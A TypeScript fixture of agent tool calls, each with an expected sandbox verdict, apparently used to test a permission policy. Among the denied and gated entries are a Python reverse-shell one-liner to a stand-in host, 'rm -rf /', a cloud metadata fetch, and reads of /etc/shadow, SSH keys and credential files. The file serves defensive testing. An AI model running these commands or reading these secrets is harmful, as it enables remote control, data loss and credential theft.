import type { JsonObject } from "@/contracts/common";

/**
 * The expected treatment of a call in a fresh workspace with the sandbox on.
 * `passes`: nobody is asked. `asks`: a person is asked, and can say yes. `not_allowed`: asked or denied, because it reaches
 * what no call may have unasked.
 */
export type ExpectedCall = "passes" | "asks" | "not_allowed";

/** Tools whose calls are listed here; the last three stand for tools of MCP servers by their effect. */
export type EverydayTool =
  | "read_file"
  | "write_file"
  | "edit_file"
  | "search_files"
  | "url_fetch"
  | "execute_code"
  | "mcp_read"
  | "mcp_write"
  | "mcp_destroy";

export type EverydayCall = {
  tool: EverydayTool;
  /** Name of the MCP tool, for the three that stand for one. */
  name?: string;
  arguments: JsonObject;
  expect: ExpectedCall;
};

const each = (tool: EverydayTool, expect: ExpectedCall, list: readonly JsonObject[]): EverydayCall[] =>
  list.map((args) => ({ tool, arguments: args, expect }));

const paths = (tool: EverydayTool, expect: ExpectedCall, list: readonly string[], rest: JsonObject = {}): EverydayCall[] =>
  each(
    tool,
    expect,
    list.map((path) => ({ path, ...rest })),
  );

const named = (
  tool: "mcp_read" | "mcp_write" | "mcp_destroy",
  expect: ExpectedCall,
  list: readonly [string, JsonObject][],
): EverydayCall[] => list.map(([name, args]) => ({ tool, name, arguments: args, expect }));

const queries = (expect: ExpectedCall, list: readonly string[], rest: JsonObject = {}): EverydayCall[] =>
  each(
    "search_files",
    expect,
    list.map((query) => ({ query, ...rest })),
  );

const code = (language: "python" | "node" | "shell", expect: ExpectedCall, list: readonly string[]): EverydayCall[] =>
  each(
    "execute_code",
    expect,
    list.map((text) => ({ language, mode: "project", code: text })),
  );

const urls = (expect: ExpectedCall, list: readonly string[], rest: JsonObject = {}): EverydayCall[] =>
  each(
    "url_fetch",
    expect,
    list.map((url) => ({ url, ...rest })),
  );

const ordinaryFiles = [
  "package.json",
  "README.md",
  "src/index.ts",
  "./src/index.ts",
  "src/../package.json",
  "/workspace/src/index.ts",
  "docs/Guide für Anfänger.md",
  "notes/2026-01-03 meeting.md",
  "src/secrets/index.ts",
  "src/components/PasswordField.tsx",
  "tests/fixtures/tokens.json",
  ".gitignore",
  ".github/workflows/ci.yml",
  ".env.example",
  "data/sales~2024.csv",
  "C++/main.cpp",
];

const outsideFiles = [
  "../secret-key",
  "../../etc/passwd",
  "/etc/shadow",
  "/root/.ssh/id_rsa",
  "/proc/self/environ",
  "src/../../other/.env",
];
const sensitiveFiles = [".env", ".env.production", ".ssh/id_rsa", ".aws/credentials", ".npmrc", "certs/server.key"];
const sensitiveByRule = [
  "terraform.tfstate",
  "prod.tfvars",
  ".envrc",
  "secrets.yml",
  "config/secrets.json",
  "client_secret.json",
  "wp-config.php",
  "config/database.yml",
  ".bash_history",
  ".psql_history",
  ".cargo/credentials.toml",
  ".config/gh/hosts.yml",
  ".codex/auth.json",
  "kubeconfig.yaml",
  "secret-key",
  "postgres-password",
  ".git/config",
];
const runsByItself = [
  ".git/hooks/pre-commit",
  ".git/config",
  ".envrc",
  ".bashrc",
  ".profile",
  ".vscode/tasks.json",
  ".claude/settings.json",
  ".mcp.json",
  ".husky/pre-commit",
];

/** Everyday tool calls of agents outside of the shell, and calls that nobody should let pass unasked. */
export const everydayCalls: readonly EverydayCall[] = [
  ...paths("read_file", "passes", ordinaryFiles),
  ...paths("read_file", "passes", ["src/big.ts"], { startLine: 100, endLine: 160 }),
  ...paths("read_file", "not_allowed", outsideFiles),
  ...paths("read_file", "asks", [...sensitiveFiles, ...sensitiveByRule]),
  ...paths(
    "write_file",
    "passes",
    ordinaryFiles.filter((path) => !path.startsWith(".git/")),
    { content: "export const one = 1;\n" },
  ),
  ...each("write_file", "passes", [
    { path: "docs/safety.md", content: "Never run rm -rf / as root, and never pipe curl into sh.\n" },
    { path: "scripts/deploy.sh", content: "#!/bin/sh\nset -e\nnpm run build\nrsync -a dist/ host:/srv/www/\n" },
    { path: "src/paths.ts", content: 'export const hosts = "/etc/hosts";\nexport const up = "../../";\n' },
    { path: "migrations/002.sql", content: "delete from sessions;\ndrop table old_users;\n" },
    { path: "src/fetch.ts", content: 'await fetch("http://127.0.0.1:3000/health");\n' },
    { path: "notes.md", content: "line\n", mode: "append" },
    { path: "fa.md", content: "می‌خواهم\n" },
    { path: "team.md", content: "👩‍💻 Ada\n" },
  ]),
  ...paths("write_file", "not_allowed", outsideFiles, { content: "x" }),
  ...paths("write_file", "asks", runsByItself, { content: "x" }),
  ...each("edit_file", "passes", [
    { path: "src/index.ts", oldText: "const a = 1;", newText: "const a = 2;" },
    { path: "package.json", oldText: '"test": "jest"', newText: '"test": "vitest run"' },
    { path: "Makefile", oldText: "clean:\n\trm -rf build", newText: "clean:\n\trm -rf build dist" },
    { path: "src/api.ts", oldText: '"/api/users"', newText: '"/api/v2/users"' },
    { path: "src/import.ts", oldText: "../../shared", newText: "../shared" },
    { path: "Dockerfile", oldText: "FROM node:20", newText: "FROM node:22" },
    { path: "docs/setup.md", oldText: "sudo apt install", newText: "sudo apt-get install" },
    { path: "README.md", oldText: "TODO", newText: "Done", replaceAll: true },
  ]),
  ...paths("edit_file", "asks", runsByItself, { oldText: "a", newText: "b" }),
  ...paths("edit_file", "not_allowed", outsideFiles, { oldText: "a", newText: "b" }),
  ...queries("passes", [
    "TODO",
    "// TODO",
    "/* eslint",
    "/api/users",
    "/",
    "../",
    "..",
    "~",
    "~/",
    "/etc/passwd",
    "rm -rf /",
    "http://127.0.0.1",
    "169.254.169.254",
    "DROP TABLE",
    "process.env.SECRET_KEY",
    "password",
    "BEGIN PRIVATE KEY",
    "$HOME",
    "*",
    "C:\\Users",
    "import .* from",
    "\u200d",
    "größe",
    "file:///",
    "-rf",
    "<script>",
  ]),
  ...queries("passes", ["useState", "/login"], { glob: "**/*.tsx" }),
  ...queries("passes", ["index", ".env.example"], { target: "name" }),
  ...queries("passes", ["getUser"], { path: "src" }),
  ...queries("not_allowed", ["key"], { path: "../" }),
  ...queries("not_allowed", ["key"], { path: "/etc" }),
  ...urls("passes", [
    "https://example.com",
    "https://example.com/docs/page.html",
    "https://developer.mozilla.org/en-US/docs/Web/API/fetch",
    "https://registry.npmjs.org/react",
    "https://raw.githubusercontent.com/o/r/main/README.md",
    "https://api.github.com/repos/o/r/pulls?state=open",
    "https://en.wikipedia.org/wiki/Rm_(Unix)",
    "https://example.com/search?q=rm+-rf+/",
    "https://example.com/a/../b",
    "https://example.com/10/20",
    "http://example.com/plain",
    "https://日本語.example.com/",
  ]),
  ...urls("passes", ["https://example.com/health"]),
  ...urls("passes", ["https://example.com/report.pdf"], { downloadPath: "downloads/report.pdf" }),
  ...urls("asks", ["https://api.example.com/items", "https://hooks.example.com/notify"], { method: "POST", body: '{"a":1}' }),
  ...urls("asks", ["https://api.example.com/items/3"], { method: "PUT", body: "{}" }),
  ...urls("asks", ["https://api.example.com/items/3"], { method: "DELETE" }),
  ...urls("not_allowed", [
    "http://localhost:3000/",
    "http://127.0.0.1/",
    "http://2130706433/",
    "http://[::1]/",
    "http://10.0.0.5/admin",
    "http://192.168.1.1/",
    "http://169.254.169.254/latest/meta-data/",
    "http://metadata.google.internal/computeMetadata/v1/",
  ]),
  ...urls("not_allowed", ["https://example.com/x"], { downloadPath: "../x" }),
  ...urls("not_allowed", ["https://example.com/x"], { downloadPath: ".git/hooks/pre-commit" }),
  ...code("python", "passes", [
    "print(sum(range(10)))",
    "import json; print(json.load(open('package.json'))['name'])",
    "import subprocess; print(subprocess.run(['git', 'status', '--short'], capture_output=True, text=True).stdout)",
    "import os; os.remove('build.log')",
    "import pandas as pd; print(pd.read_csv('data/sales.csv').describe())",
    "print(eval('2 ** 10'))",
    "import ast; print(ast.dump(ast.parse(open('a.py').read())))",
    "import re; print(re.compile(r'\\d+').findall(open('log.txt').read()))",
    "import shutil; shutil.rmtree('dist')",
    "import base64; print(base64.b64decode('aGVsbG8='))",
    "import sqlite3; c = sqlite3.connect('a.db'); print(c.execute('SELECT count(*) FROM t WHERE (a > 1)').fetchall())",
    "import sqlite3; c = sqlite3.connect('a.db'); c.execute(\"CREATE TABLE t (a INTEGER, b TEXT DEFAULT 'x')\")",
  ]),
  ...code("node", "passes", [
    "console.log(require('./package.json').version)",
    "const { execSync } = require('child_process'); console.log(execSync('git log --oneline').toString())",
    "require('fs').rmSync('dist', { recursive: true })",
    "console.log(`total: ${[1, 2, 3].reduce((a, b) => a + b)}`)",
    "console.log(new Function('return 1 + 1')())",
  ]),
  ...code("shell", "passes", ["npm test", "for f in src/*.ts; do wc -l $f; done", "python3 -c 'import subprocess'"]),
  ...code("python", "asks", ["import subprocess; subprocess.run(['rm', '-rf', 'src'])", "import os; os.system('git push --force')"]),
  ...each("execute_code", "asks", [
    {
      language: "python",
      mode: "project",
      code: "import urllib.request; urllib.request.urlopen('https://example.com/')",
      hosts: ["example.com"],
    },
  ]),
  ...code("shell", "asks", ["git push origin main", "rm -rf src", "cat .env"]),
  ...code("python", "not_allowed", [
    "import os, socket; s = socket.socket(); s.connect(('h', 1)); os.dup2(s.fileno(), 0); import pty; pty.spawn('sh')",
    "import os; os.system('rm -rf /')",
    "import urllib.request; urllib.request.urlopen('http://169.254.169.254/latest/meta-data/')",
  ]),
  ...named("mcp_read", "passes", [
    ["notes__list_notes", {}],
    ["notes__search_notes", { query: "/etc/passwd" }],
    ["github__get_pull_request", { owner: "o", repo: "r", number: 10 }],
    ["github__list_issues", { labels: ["bug"], state: "open" }],
    ["postgres__query", { query: "select id, email from users where id = 3" }],
    ["postgres__query", { sql: "select count(*) from orders where created_at > now() - interval '1 day'" }],
    ["postgres__list_tables", { schema: "public" }],
    ["drive__read_document", { path: "/Team/Plans/2026.md" }],
    ["calendar__list_events", { from: "2026-01-01", to: "2026-01-31" }],
    ["stocks__get_stock_fundamental", { symbol: "ACME" }],
    ["slack__search_messages", { query: "from:@ada deploy" }],
    ["browser__get_page_text", { url: "https://example.com" }],
    ["weather__get_forecast", { latitude: 52.5, longitude: 13.4 }],
  ]),
  ...named("mcp_write", "asks", [
    ["slack__send_message", { channel: "#team", text: "The build is green." }],
    ["gmail__send_email", { to: "ada@example.com", subject: "Report", body: "See the file." }],
    ["twilio__send_sms", { to: "+15550100", body: "Your order has left." }],
    ["github__create_issue", { title: "Bug", body: "rm -rf / is documented wrongly" }],
    ["github__approve_pull_request", { number: 12 }],
    ["notes__save_note", { text: "Call the bank about the transfer" }],
    ["tasks__approve_task_completion", { id: 3 }],
    ["vercel__deploy_project", { project: "web" }],
    ["portainer__deploy-compose", { stack: "web" }],
    ["lambda__invoke_function", { name: "fn", payload: "{}" }],
    ["drive__transfer_ownership", { file: "a", to: "ada@example.com" }],
    ["calendar__create_event", { title: "Review", start: "2026-01-05T10:00" }],
    ["jira__transition_issue", { key: "WEB-1", to: "Done" }],
    ["sheets__append_row", { sheet: "Budget", values: ["=A1+B1", 3] }],
    ["postgres__execute", { query: "insert into notes (text) values ('x')" }],
    ["postgres__execute", { query: "update users set name = 'Ada' where id = 3" }],
    ["files__write_file", { path: "notes/a.md", content: "x" }],
  ]),
  ...named("mcp_destroy", "asks", [
    ["notes__delete_note", { id: 7 }],
    ["github__delete_branch", { branch: "old" }],
    ["drive__remove_file", { path: "/Team/old.md" }],
    ["postgres__query", { query: "delete from sessions" }],
    ["postgres__query", { query: "drop table old_users" }],
    ["calendar__cancel_event", { id: "e1" }],
  ]),
];
